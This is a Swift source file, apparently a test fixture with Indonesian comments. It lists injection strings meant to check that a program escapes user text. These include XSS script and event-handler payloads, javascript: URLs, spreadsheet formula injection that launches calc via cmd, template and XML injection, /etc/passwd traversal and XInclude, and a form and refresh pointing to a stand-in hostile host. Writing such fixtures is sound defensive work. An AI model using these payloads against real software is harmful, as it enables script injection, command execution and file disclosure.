/// Texts that would become markup, script, formula, template, path or other structure where a program forgets to say that
/// they are text.
enum Payloads {
  static let all: [String] =
    markup + attributes + addresses + formulas + templates + xml + data + characters + paths + [long]

  /// `bobol` is set by a script that runs; nothing of ours has the name.
  private static let markup = [
    "<script>bobol=1</script>", "</script><script>bobol=1</script>", "</style><img src=x onerror=bobol=1>",
    "</td></tr></table><h1>Judul</h1>", "<b>tebal", "</p></section></main>", "<img src=x onerror=bobol=1>",
    "<svg/onload=bobol=1>", "<iframe src=\"file:///etc/passwd\"></iframe>", "<style>*{display:none}</style>",
    "</title><script>bobol=1</script>", "</textarea><script>bobol=1</script>", "<!-- komentar", "--> akhir",
    "--!> akhir",
    "<!DOCTYPE html>", "<base href=\"//jahat.contoh/\">", "<form action=//jahat.contoh><input name=nik>",
    "<meta http-equiv=refresh content=0;url=//jahat.contoh>",
    "<link rel=stylesheet href=//jahat.contoh/x.css>",
    "<details open ontoggle=bobol=1>", "</option></select><script>bobol=1</script>",
  ]
  private static let attributes = [
    "\" onmouseover=\"bobol=1", "' onmouseover='bobol=1", "\"><script>bobol=1</script>", "'><b>x</b>",
    "\" autofocus onfocus=bobol=1 x=\"", "` onmouseover=bobol=1", "x\" style=\"position:fixed",
  ]
  private static let addresses = [
    "javascript:bobol=1", "JaVaScRiPt:bobol=1", "data:text/html,<script>bobol=1</script>", "vbscript:msgbox",
    "//jahat.contoh/x", "https://jahat.contoh/?q=<x>&y=\"z\"",
  ]
  private static let formulas = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://jahat.contoh\",\"x\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\",\"=2+2",
  ]
  private static let templates = [
    "{{nomor_register}}", "{{{gaya}}}", "{{#pemohon}}x{{/pemohon}}", "{{>bagian/kop}}", "{{=<% %>=}}<%x%>",
    "}}{{&gaya}}",
  ]
  private static let xml = [
    "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&#60;b&#62;", "&nbsp;", "&x;", "<?php echo 1 ?>", "%x; &a;",
    "<xi:include href=\"/etc/passwd\"/>",
  ]
  private static let data = [
    "a,b;c|d", "kutip \" dan \"\" dan '", "baris satu\nbaris dua", "\",\"kode\":\"x\",\"y\":\"",
    "\\\" \\u0022 \\n \\", "null",
  ]
  private static let characters = [
    "a\u{1}b\u{1F}c", "\u{202E}txt.exe", "a\u{2028}b\u{2029}c", "a\u{FFFE}b\u{FFFF}",
    "a\u{85}b\u{A0}c\u{AD}d",
    "\u{FEFF}awal", "e\u{301}\u{323} \u{200D}\u{200B}", "\u{1F600}\u{10FFFF}", "\u{FF1C}script\u{FF1E}",
  ]
  private static let paths = [
    "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "CON", "NUL.html", ".", "~/x", "a/../b",
    "file:///etc/passwd",
  ]
  private static let long = String(repeating: "<b a='\">", count: 1250)

  /// A text that says as much and cannot be taken for anything: signs that mean something somewhere become letters, while
  /// blanks, separators of lists and characters that findings speak of stay.
  static func harmless(_ text: String) -> String {
    var result = String.UnicodeScalarView()
    for scalar in text.unicodeScalars { result.append(signs.contains(scalar) ? "a" : scalar) }
    return String(result)
  }

  private static let signs = Set("<>\"'=+-{}!$%^*()[]\\`~:_?|#.@".unicodeScalars)
}
